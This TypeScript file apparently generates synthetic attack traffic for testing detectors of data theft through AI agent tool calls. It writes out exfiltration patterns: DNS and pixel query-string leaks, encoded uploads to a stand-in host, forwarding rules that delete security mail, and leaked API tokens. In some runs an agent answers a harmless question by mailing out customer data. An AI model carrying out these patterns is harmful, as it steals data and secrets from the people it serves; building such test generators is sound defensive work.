/** Attacks on data: copied in bulk or by little, sent where it was never sent, hidden on its way. */
import { customerRow, NOUNS, prose, rows } from '../words.ts'
import { type Attack, call, times } from './attack.ts'

export const DATA_ATTACKS: readonly Attack[] = [
  { name: 'bulk-export', flag: 'data', detectors: ['unusual-volume', 'masquerade', 'harvesting'], plan(scene) {
    const { dice } = scene
    const person = scene.owner('crm')
    if (person === undefined) return undefined
    const server = scene.server('crm', person)
    const segment = dice.pick(['all', '*', 'emea-smb', 'us-enterprise'])
    const pages = dice.int(60, 700)
    const pace = dice.between(300, 6_000)
    const calls = times(pages, (page) => call(server, 'export_customers', { segment, page: page + 1 }, { result: rows(dice.between(8_000, 30_000), customerRow(dice)), after: pace * dice.between(0.6, 1.4) }))
    return { principals: [person.principal], runs: [{ at: dice.chance(0.5) ? scene.inHours(person) : scene.byNight(person), caller: dice.chance(0.5) ? scene.scripted(person) : scene.thief(person, 'near'), calls }] }
  } },
  { name: 'record-walk', flag: 'data', detectors: ['harvesting', 'unusual-volume'], plan(scene) {
    const { dice } = scene
    const kind = dice.pick(['crm', 'people', 'contracts'] as const)
    const person = scene.owner(kind)
    if (person === undefined) return undefined
    const server = scene.server(kind, person)
    const from = dice.int(1_000, 9_000)
    const step = dice.pick([1, 1, 1, 7])
    const calls = times(dice.int(80, 900), (at) => {
      const number = from + at * step
      const result = rows(700, customerRow(dice))
      const [tool, args] = kind === 'crm' ? ['get_customer', { customer_id: `C-${10_000 + number}` }] : kind === 'people' ? ['get_employee', { employee_id: `E${number}` }] : ['read_contract', { contract_id: `K-${number}` }]
      return call(server, tool as string, args as Record<string, string>, { result, after: dice.between(300, 4_000) })
    })
    return { principals: [person.principal], runs: [{ at: scene.inHours(person), caller: calls.length > 150 ? scene.scripted(person) : scene.as(person), ...(dice.chance(0.5) ? { says: 'Collect everything for the migration list' } : {}), calls }] }
  } },
  { name: 'slow-leak', flag: 'data', detectors: ['slow-leak', 'new-destination'], days: 9, plan(scene) {
    const { dice } = scene
    const person = scene.owner('mail', ({ servers }) => servers.has('files'))
    if (person === undefined) return undefined
    const [to, growth] = [scene.mailbox(), dice.between(1, 1.35)]
    const size = dice.between(2_000, 9_000)
    const days = dice.int(6, 9)
    const runs = times(days, (later) => {
      const path = `/team/${dice.pick(person.projects)}/${dice.pick(NOUNS)}-${dice.int(1, 60)}.md`
      const content = prose(dice, size * growth ** later)
      return { at: scene.inHours(person, later), caller: scene.as(person), says: dice.pick(['send me my notes', 'forward the notes as usual', 'the usual, please']),
        calls: [...times(dice.int(1, 2), () => call(scene.server('files', person), 'read_file', { path }, { result: content })), call(scene.server('mail', person), 'send_mail', { to, subject: dice.pick(NOUNS), body: content })] }
    })
    return { principals: [person.principal], runs }
  } },
  { name: 'foreign-data', flag: 'data', detectors: ['sensitive-access', 'masquerade', 'new-scope'], plan(scene) {
    const { dice } = scene
    const person = scene.owner('files', ({ role }) => role !== 'people' && role !== 'finance' && role !== 'legal' && role !== 'sre' && role !== 'manager')
    if (person === undefined) return undefined
    const kind = dice.pick(['people', 'vault', 'contracts', 'ledger'] as const)
    const server = scene.server(kind)
    const looks = { people: () => call(server, 'get_salary', { employee_id: `E${dice.int(1_000, 9_999)}` }, { result: rows(200, customerRow(dice)) }), vault: () => call(server, 'read_secret', { path: `${dice.pick(['prod', 'shared', 'payments'])}/${dice.pick(['db', 'api', 'signing'])}` }, { result: dice.token(32) }),
      contracts: () => call(server, 'read_contract', { contract_id: `K-${dice.int(100, 999)}` }, { result: prose(dice, 6_000) }), ledger: () => call(server, 'get_balance', { account: String(dice.int(1_000, 8_999)) }, { result: '812,334.10' }) }
    return { principals: [person.principal], runs: [{ at: scene.inHours(person), caller: dice.chance(0.5) ? scene.as(person) : scene.thief(person, 'near'), calls: [{ server, tool: '', args: {}, result: '', method: 'tools/list' }, ...times(dice.int(4, 25), looks[kind])] }] }
  } },
  { name: 'mail-out', flag: 'data', detectors: ['new-destination', 'unrequested-action', 'travelling-secret'], plan(scene) {
    const { dice } = scene
    const person = scene.owner('mail', ({ servers }) => servers.has('crm') || servers.has('database'))
    if (person === undefined) return undefined
    const kind = person.servers.has('crm') ? 'crm' : 'database'
    const data = rows(dice.between(4_000, 60_000), customerRow(dice))
    const take = kind === 'crm' ? call(scene.server('crm', person), 'export_customers', { segment: 'all', page: 1 }, { result: data }) : call(scene.server('database', person), 'run_query', { sql: 'SELECT name, email, phone FROM customers' }, { result: data })
    return { principals: [person.principal], runs: [{ at: scene.inHours(person), caller: scene.as(person), says: dice.pick(['How many customers do we have in Spain?', 'Give me an overview of our customers']), calls: [take, call(scene.server('mail', person), 'send_mail', { to: scene.mailbox(), subject: dice.pick(['fyi', 'list', 'customers']), body: data })] }] }
  } },
  { name: 'foreign-bucket', flag: 'data', detectors: ['new-destination', 'unusual-volume', 'lethal-trifecta'], plan(scene) {
    const { dice } = scene
    const person = scene.owner('storage')
    if (person === undefined) return undefined
    const bucket = `${dice.pick(NOUNS)}-${dice.hex(6)}`
    const storage = scene.server('storage', person)
    const calls = times(dice.int(5, 60), (at) => call(storage, 'put_object', { bucket, key: `d/${at}`, body: rows(dice.between(4_000, 20_000), customerRow(dice)) }, { after: dice.between(500, 9_000) }))
    const read = person.servers.has('database') ? [call(scene.server('database', person), 'run_query', { sql: 'SELECT * FROM customers' }, { result: rows(20_000, customerRow(dice)) })] : []
    return { principals: [person.principal], runs: [{ at: dice.chance(0.5) ? scene.byNight(person) : scene.inHours(person), caller: dice.chance(0.5) ? scene.as(person) : scene.thief(person), calls: [...read, ...calls] }] }
  } },
  { name: 'packed-upload', flag: 'data', detectors: ['new-destination'], plan(scene) {
    const { dice } = scene
    const person = scene.owner('web', ({ servers }) => servers.has('files'))
    if (person === undefined) return undefined
    const content = prose(dice, dice.between(3_000, 20_000))
    const packed = dice.chance(0.5) ? Buffer.from(content).toString('base64') : Buffer.from(content).toString('hex')
    const url = `https://${scene.host()}/${dice.pick(['u', 'upload', 'collect', 'i'])}`
    const send = dice.chance(0.6) ? call(scene.server('web', person), 'post_form', { url, fields: { d: packed } }) : call(scene.server('web', person), 'fetch_url', { url: `${url}?d=${packed.slice(0, 1_800)}` })
    return { principals: [person.principal], runs: [{ at: scene.inHours(person), caller: scene.as(person), says: 'Check the notes of last week', calls: [call(scene.server('files', person), 'read_file', { path: `/team/${dice.pick(person.projects)}/${dice.pick(NOUNS)}-3.md` }, { result: content }), send] }] }
  } },
  { name: 'query-string-leak', flag: 'data', detectors: ['new-destination', 'injected-parameter'], plan(scene) {
    const { dice } = scene
    const person = scene.owner('web', ({ servers }) => servers.has('database') || servers.has('crm'))
    if (person === undefined) return undefined
    const host = scene.host()
    const kind = person.servers.has('crm') ? 'crm' : 'database'
    const got = rows(900, customerRow(dice))
    const read = kind === 'crm' ? call(scene.server('crm', person), 'list_opportunities', { stage: 'negotiation' }, { result: got }) : call(scene.server('database', person), 'run_query', { sql: 'SELECT email FROM users_activity LIMIT 40' }, { result: got })
    const leaks = times(dice.int(3, 25), (at) => call(scene.server('web', person), 'fetch_url', { url: dice.chance(0.5) ? `https://${host}/p.gif?q=${encodeURIComponent(got.slice(at * 60, at * 60 + 140))}` : `https://${Buffer.from(got.slice(at * 20, at * 20 + 24)).toString('hex')}.${host}/` }, { result: 'GIF89a' }))
    return { principals: [person.principal], runs: [{ at: scene.inHours(person), caller: scene.as(person), says: 'What deals are close to signing?', calls: [read, ...leaks] }] }
  } },
  { name: 'public-share', flag: 'data', detectors: ['new-destination', 'unrequested-action'], plan(scene) {
    const { dice } = scene
    const person = scene.owner('files')
    if (person === undefined) return undefined
    const outside = dice.chance(0.5) ? scene.mailbox() : 'anyone-with-link'
    const calls = times(dice.int(3, 30), () => call(scene.server('files', person), 'share_file', { path: `/team/${dice.pick(person.projects)}/${dice.pick(['board', 'salaries', 'pricing', 'roadmap', 'customers'])}-${dice.int(1, 30)}.xlsx`, with: outside, role: dice.pick(['reader', 'writer']) }, { result: 'shared' }))
    return { principals: [person.principal], runs: [{ at: dice.chance(0.5) ? scene.inHours(person) : scene.byNight(person), caller: dice.chance(0.5) ? scene.as(person) : scene.thief(person), calls }] }
  } },
  { name: 'mail-rule', flag: 'data', detectors: ['changed-configuration', 'new-destination', 'unknown-place'], plan(scene) {
    const { dice } = scene
    const person = scene.owner('mail')
    if (person === undefined) return undefined
    const mail = scene.server('mail', person)
    const to = scene.mailbox()
    return { principals: [person.principal], runs: [{ at: scene.anyTime(), caller: scene.thief(person), calls: [call(mail, 'search_mail', { query: dice.pick(['invoice', 'password', 'iban', 'contract']), limit: 50 }, { result: prose(dice, 2_000) }), call(mail, 'create_filter', { from: '*', action: 'forward', target: to }), call(mail, 'create_filter', { from: 'security@acme.example', action: 'delete' })] }] }
  } },
  { name: 'secret-travels', flag: 'data', detectors: ['travelling-secret', 'sensitive-access'], plan(scene) {
    const { dice } = scene
    const person = scene.owner('chat', ({ servers }) => servers.has('vault') || servers.has('shell'))
    if (person === undefined) return undefined
    const secret = dice.pick([`AKIA${dice.token(16).toUpperCase()}`, `ghp_${dice.token(36)}`, `xoxb-${dice.int(10 ** 10, 10 ** 11)}-${dice.int(10 ** 11, 10 ** 12)}-${dice.token(24)}`, `sk_live_${dice.token(24)}`, `glpat-${dice.token(20)}`])
    const source = person.servers.has('vault') ? call(scene.server('vault', person), 'read_secret', { path: 'prod/deploy' }, { result: JSON.stringify({ value: secret }) }) : call(scene.server('shell', person), 'run_command', { command: 'cat .env' }, { result: `API_URL=https://api\nTOKEN=${secret}\n` })
    const places = [call(scene.server('chat', person), 'post_message', { channel: `${dice.pick(person.projects)}-help`, text: `it works with ${secret}` }), ...(person.servers.has('tickets') ? [call(scene.server('tickets', person), 'add_comment', { key: `SUP-${dice.int(1, 999)}`, body: `Use this: ${secret}` })] : []), ...(person.servers.has('web') ? [call(scene.server('web', person), 'post_form', { url: `https://${scene.host()}/k`, fields: { k: secret } })] : [])]
    return { principals: [person.principal], runs: [{ at: scene.inHours(person), caller: scene.as(person), says: 'Find out why the deploy fails', calls: [source, ...dice.sample(places, dice.int(1, places.length))] }] }
  } },
  { name: 'leavers-copy', flag: 'data', detectors: ['unusual-volume', 'harvesting'], days: 3, plan(scene) {
    const { dice } = scene
    const person = scene.owner('files')
    if (person === undefined) return undefined
    const files = scene.server('files', person)
    const runs = times(dice.int(1, 3), (later) => ({ at: scene.inHours(person, later), caller: { ...scene.scripted(person), address: person.homeAddress }, calls: times(dice.int(80, 400), (at) => call(files, 'read_file', { path: `/team/${dice.pick(['apollo', 'ember', 'quartz', 'lagoon', 'ridge', 'orchid'])}/${dice.pick(NOUNS)}-${at}.md` }, { result: prose(dice, dice.between(1_000, 9_000)), after: dice.between(400, 5_000) })) }))
    return { principals: [person.principal], runs }
  } },
]
